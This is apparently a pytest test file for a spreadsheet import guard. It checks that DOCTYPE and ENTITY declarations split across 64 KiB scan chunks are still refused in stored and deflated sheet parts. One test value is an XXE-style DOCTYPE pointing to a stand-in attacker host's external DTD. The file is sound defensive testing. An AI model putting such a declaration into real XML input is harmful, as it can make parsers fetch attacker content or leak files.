"""A DTD split across the guard's 64 KiB read chunks is still found, in stored and in deflated
parts: the scan carries the end of each chunk over to the next."""
from __future__ import annotations

import pytest

from analytics.ingest.guard import CHUNK, check_bytes
from analytics.problems import ImportRefused
from tests.support import hostile

# Each holds one keyword only, so the part after the boundary cannot give it away.
DECLARATIONS = (b"<!DOCTYPE x SYSTEM 'http://attacker.example/x.dtd'>", b"<!ENTITY a 'b'>")
HEAD = b"<worksheet><sheetData>"


def sheet_with_declaration_split_at(declaration: bytes, first_chunk_holds: int) -> bytes:
    """A sheet part whose first `first_chunk_holds` bytes of `declaration` end the first chunk.

    Whitespace filler compresses so well that the deflated part's first 64 KiB of input inflate
    to more than a chunk: its output chunks also end exactly at multiples of 64 KiB.
    """
    filler = b" " * (CHUNK - first_chunk_holds - len(HEAD))
    content = HEAD + filler + declaration + b" " * CHUNK + b"</sheetData></worksheet>"
    assert content[CHUNK - first_chunk_holds:CHUNK + 1].startswith(declaration[:first_chunk_holds])
    return content


@pytest.mark.parametrize("pack", [hostile.stored, hostile.deflated], ids=["stored", "deflated"])
@pytest.mark.parametrize("declaration", DECLARATIONS, ids=["doctype", "entity"])
def test_a_declaration_across_a_chunk_boundary_is_refused(pack, declaration: bytes) -> None:
    keyword = declaration.split(b" ")[0]          # "<!DOCTYPE" or "<!ENTITY": what the scan seeks
    for split in range(1, len(keyword)):
        content = sheet_with_declaration_split_at(declaration, split)
        workbook = hostile.rebuild({hostile.SHEET: pack(hostile.SHEET, content)})
        with pytest.raises(ImportRefused, match="DTD or entities"):
            check_bytes(workbook)


@pytest.mark.parametrize("pack", [hostile.stored, hostile.deflated], ids=["stored", "deflated"])
def test_the_same_sheet_without_a_declaration_is_accepted(pack) -> None:
    content = sheet_with_declaration_split_at(b"<!-- a comment -->", 4)
    check_bytes(hostile.rebuild({hostile.SHEET: pack(hostile.SHEET, content)}))
